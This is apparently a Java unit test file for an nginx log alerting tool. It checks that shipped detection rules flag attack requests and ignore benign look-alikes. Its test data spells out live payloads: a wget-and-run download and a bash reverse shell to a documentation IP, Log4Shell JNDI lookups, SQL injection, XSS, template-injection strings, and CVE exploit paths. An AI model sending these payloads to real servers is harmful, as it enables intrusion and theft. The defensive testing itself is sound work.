package io.nginxalerts.core.rules;

import static io.nginxalerts.core.rules.TestEvent.request;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The shipped payload, exploit, backdoor and open-proxy rules: each fires on the syntax of the
 * attack it names, in its encodings, and on none of the benign look-alikes (search words such as
 * "select" or "union", file names with "..", ordinary redirect URLs, unrendered templates).
 */
class ShippedPayloadRulesTest {
    static final Path RULES = ShippedRulesTest.RULES;

    static final List<String> ONE_REQUEST_RULES =
            List.of(
                    "path-traversal-attempt",
                    "payload-sql-injection",
                    "payload-xss",
                    "payload-jndi-lookup",
                    "payload-command-injection",
                    "payload-remote-file-inclusion",
                    "payload-template-injection",
                    "backdoor-webshell-request",
                    "proxy-open-proxy-request",
                    "cve-exploit-path",
                    "cve-technology-probe");

    /** Benign requests that share words or characters with the payloads. */
    static final List<String> BENIGN_URLS =
            List.of(
                    "/",
                    "/search?q=select+a+gift+for+dad",
                    "/search?q=union+jack+t-shirt",
                    "/search?q=script+font+mug",
                    "/search?q=drop+earrings",
                    "/search?q=table+or+1+chair+set",
                    "/search?q=alert+whistle",
                    "/search?q=java+script+for+kids+book",
                    "/search?q=sleep+mask",
                    "/search?q=%22select%22+sneakers",
                    "/search?q=1%3D1+scale+model",
                    "/search?q=rock+%26+roll+poster",
                    "/search?q=it%27s+or+that",
                    "/search?q=c%C3%A9line+bag",
                    "/downloads/report..pdf",
                    "/downloads/size-chart...pdf",
                    "/docs/v2..v3-changes.txt",
                    "/login?next=https%3A%2F%2Fshop.example.com%2Fcart",
                    "/redirect?to=https://example.com/a?b=1",
                    "/api/${userId}/orders",
                    "/app/{{item.url}}",
                    "/products?onload=1&id=5&cat=shoes",
                    "/products;jsessionid=ABC123?sort=price",
                    "/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar",
                    "/static/js/app.4f2a91c3.js",
                    "/blog/how-to-use-curl",
                    "/shop/shell-phone-case",
                    "/images/body.png",
                    "/api/v2/items?filter=name%20eq%20%27x%27");

    static Map<String, Rule> rules;

    @BeforeAll
    static void load() throws RuleException {
        rules =
                RuleLoader.loadDirectory(RULES).stream()
                        .collect(Collectors.toMap(Rule::id, Function.identity()));
    }

    static boolean fires(String id, TestEvent event) {
        return rules.get(id).steps().get(0).condition().test(event.build());
    }

    static void firesOnUrls(String id, String... urls) {
        for (String url : urls) {
            assertThat(fires(id, request().url(url).status(404))).as("%s on %s", id, url).isTrue();
        }
    }

    @Test
    void oneCraftedRequestIsEnoughAndAlertsRepeatAtMostEveryHalfHourPerClient() {
        for (String id : ONE_REQUEST_RULES) {
            Rule rule = rules.get(id);
            assertThat(rule.groupBy()).as(id).containsExactly("clientip");
            assertThat(rule.steps()).as(id).hasSize(1);
            assertThat(rule.steps().get(0).atLeast()).as(id).isEqualTo(1);
            assertThat(rule.suppress())
                    .as(id)
                    .isBetween(Duration.ofMinutes(30), Duration.ofHours(1));
        }
    }

    @Test
    void noPayloadRuleFiresOnBenignLookAlikes() {
        for (String id : ONE_REQUEST_RULES) {
            for (String url : BENIGN_URLS) {
                for (int status : new int[] {200, 404}) {
                    assertThat(fires(id, request().url(url).status(status)))
                            .as("%s on %s (%d)", id, url, status)
                            .isFalse();
                }
            }
        }
    }

    @Test
    void pathTraversalInEveryEncoding() {
        firesOnUrls(
                "path-traversal-attempt",
                "/static/../../etc/shadow",
                "/download?file=..%2f..%2fapp.ini",
                "/%2E%2E/%2e%2E%2Fx",
                "/cgi-bin/.%2e/.%2e/bin/sh",
                "/%252e%252e%252fx",
                "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/bash",
                "/tmui/login.jsp/..;/tmui/x.jsp",
                "/tmui/login.jsp/%2E%2E;/tmui/x.jsp",
                "/..\\..\\windows\\win.ini",
                "/files/..%5c..%5cboot.ini",
                "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc",
                "/%2fetc%2fpasswd",
                "/c:/win.ini",
                "/etc/passwd%3f",
                "/?file=/proc/self/environ");
    }

    @Test
    void sqlInjectionNeedsSqlSyntax() {
        firesOnUrls(
                "payload-sql-injection",
                "/foo?a=%20union%20all%20select%20",
                "/item?id=1+UNION+SELECT+username,password+FROM+users",
                "/item?id=1/**/union/**/select/**/1",
                "/foo?a=information_schema.tables",
                "/foo?a=1%27%20AND%20SLEEP(5)--",
                "/foo?a=benchmark%28",
                "/foo?a=pg_sleep(10)",
                "/login?user=admin%27+or+%271%27%3D%271",
                "/login?user=%22+or+1%3D1--",
                "/x?id=1;+DROP+TABLE+users",
                "/foo?a=%2cnull%2cnull",
                "/x?id=1+order+by+10--",
                "/x?q=%2527%2520or%25201%253D1");
    }

    @Test
    void crossSiteScriptingNeedsTagsHandlersOrCalls() {
        firesOnUrls(
                "payload-xss",
                "/foo?a=%3Cscript%3Ealert(1)%3C/script%3E",
                "/foo?a=<script",
                "/foo?a=%253Csvg%2Fonload%3Dalert(1)%253E",
                "/foo?a=%22%3E%3Cimg%20src=x%20onerror=prompt(document.domain)%3E",
                "/foo?a=javascript:alert(1)",
                "/foo?a=x%27%20onmouseover%3D%27alert(1)",
                "/zm/index.php?file=&lt;script src='/x'&lt;/script&gt;",
                "/foo?a=%3Ciframe%20src=x%3E",
                "/x?cb=document.cookie");
        assertThat(fires("payload-xss", request().agent("<script>alert(1)</script>"))).isTrue();
        assertThat(fires("payload-xss", request().refer("https://x/?q=<svg/onload=alert(1)>")))
                .isTrue();
    }

    @Test
    void jndiLookupsInAnyFieldTheClientWrites() {
        String log4shell = "${jndi:ldap://203.0.113.9:1389/a}";
        String obfuscated = "${${lower:j}${lower:n}di:${lower:l}dap://x/a}";
        assertThat(fires("payload-jndi-lookup", request().agent(log4shell))).isTrue();
        assertThat(fires("payload-jndi-lookup", request().agent(obfuscated))).isTrue();
        assertThat(fires("payload-jndi-lookup", request().refer(log4shell))).isTrue();
        assertThat(fires("payload-jndi-lookup", request().xff("${jndi:dns://x/a}"))).isTrue();
        assertThat(fires("payload-jndi-lookup", request().agent("%24%7Bjndi:ldap://x/a%7D")))
                .isTrue();
        firesOnUrls(
                "payload-jndi-lookup",
                "/?x=${jndi:ldap://127.0.0.1/a}",
                "/?x=%24%7Bjndi%3Armi%3A%2F%2Fx%2Fa%7D",
                "/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
                "/?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29%7D",
                "/?search=%24%7Bdns%3Aaddress%7Cwww.example.com%7D");
        assertThat(fires("payload-jndi-lookup", request().agent("Mozilla/5.0 ${version}")))
                .isFalse();
    }

    @Test
    void commandInjectionNeedsASeparatorAndACommandOrShellTricks() {
        firesOnUrls(
                "payload-command-injection",
                "/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m+-O+/tmp/n;sh+n",
                "/remote_agent.php?poller_id=%3btouch%20test.txt&",
                "/index.php?login=$(echo${IFS}aGk=${IFS}|${IFS}base64${IFS}-d${IFS}|${IFS}bash)",
                "/ping?host=127.0.0.1|id",
                "/ping?host=127.0.0.1%26%26whoami",
                "/x?c=`uname+-a`",
                "/x?c=bash+-i+>%26+/dev/tcp/192.0.2.1/4444+0>%261",
                "/x?content=%3C?php%20phpinfo();?%3E");
        String shellshock = "() { :; }; /bin/bash -c 'id'";
        assertThat(fires("payload-command-injection", request().agent(shellshock))).isTrue();
        assertThat(fires("payload-command-injection", request().refer(shellshock))).isTrue();
    }

    @Test
    void fileInclusionNeedsAWrapperOrATruncatedRemoteUrl() {
        firesOnUrls(
                "payload-remote-file-inclusion",
                "/index.php?page=php://filter/convert.base64-encode/resource=index",
                "/index.php?page=php%3A%2F%2Finput",
                "/index.php?page=expect://id",
                "/index.php?page=data://text/plain;base64,PD9waHA=",
                "/x?url=file:///etc/hosts",
                "/start.php?lang=http://rfi.example/inc.txt?",
                "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input");
    }

    @Test
    void templateInjectionNeedsEvaluationOrObjectWalks() {
        firesOnUrls(
                "payload-template-injection",
                "/?name={{7*7}}",
                "/?name=%7B%7Bconfig.items()%7D%7D",
                "/?name={{self.__class__.__mro__}}",
                "/?name=${7*7}",
                "/?d=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D",
                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang"
                        + ".Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
                "/x.action?redirect:%25%7B%23_memberAccess%7D");
    }

    @Test
    void backdoorNamesMatchAsTheEndOfThePathInAnyCase() {
        firesOnUrls(
                "backdoor-webshell-request",
                "/Worse_Linux_Shell.php",
                "/s72_Shell.php",
                "/wp-content/uploads/c99.php",
                "/r57.php?act=ls",
                "/WSO.php",
                "/%62374k.php");
        assertThat(fires("backdoor-webshell-request", request().url("/c99.php.html"))).isFalse();
    }

    @Test
    void openProxyIsConnectOrAnAbsoluteRequestTarget() {
        assertThat(
                        fires(
                                "proxy-open-proxy-request",
                                request().method("CONNECT").url("mail.example.com:25")))
                .isTrue();
        firesOnUrls(
                "proxy-open-proxy-request",
                "http://www.example.com:80/ip4.php",
                "HTTPS://example.com/");
        assertThat(fires("proxy-open-proxy-request", request().url("/go?to=http://x/"))).isFalse();
    }

    @Test
    void exploitPathsMatchWhateverTheStatusAndEncoding() {
        for (String url :
                List.of(
                        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                        "/Telerik.Web.UI.WebResource.axd?type=rau",
                        "/setup/setupadministrator.action",
                        "/json/setup-restore.action",
                        "/php/ztp_gate.php/.js.map",
                        "/s/x/_/;/META-INF/maven/pom.properties",
                        "/path/?class.module.classLoader.URLs%5B0%5D=0",
                        "/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
                        "/service/extension/backup/mboximport?account-name=admin",
                        "/mgmt/tm/util/bash")) {
            for (int status : new int[] {200, 404}) {
                assertThat(fires("cve-exploit-path", request().url(url).status(status)))
                        .as(url)
                        .isTrue();
            }
        }
    }

    @Test
    void technologyProbesCountOnlyWhenTheProductIsNotThere() {
        firesOnUrls(
                "cve-technology-probe",
                "/_ignition/execute-solution",
                "/cgi-bin/videoconfiguration.cgi",
                "/crx/packmgr/service.jsp",
                "/sap/bc/gui/sap/its/webgui/x",
                "/nwa");
        assertThat(
                        fires(
                                "cve-technology-probe",
                                request().url("/crx/packmgr/service.jsp").status(200)))
                .isFalse();
        assertThat(fires("cve-technology-probe", request().url("/nwanted").status(404))).isFalse();
    }

    @Test
    void cveListsGroupEveryEntryUnderACommentThatNamesIt() throws IOException {
        Pattern cve = Pattern.compile("# CVE-\\d{4}-\\d{4,}\\b.*\\S");
        List<String> lines =
                Files.readAllLines(
                        RULES.resolve("lists/cve-exploit-paths.txt"), StandardCharsets.UTF_8);
        boolean inGroup = false;
        int entries = 0;
        for (String line : lines) {
            if (line.isBlank()) {
                inGroup = false;
            } else if (line.startsWith("#")) {
                inGroup = cve.matcher(line).matches();
            } else {
                assertThat(inGroup)
                        .as("entry %s has a # CVE-... line above its group", line)
                        .isTrue();
                assertThat(line).as("decoded fields are lower-case").isEqualTo(line.toLowerCase());
                entries++;
            }
        }
        assertThat(entries).isGreaterThan(40);
    }
}
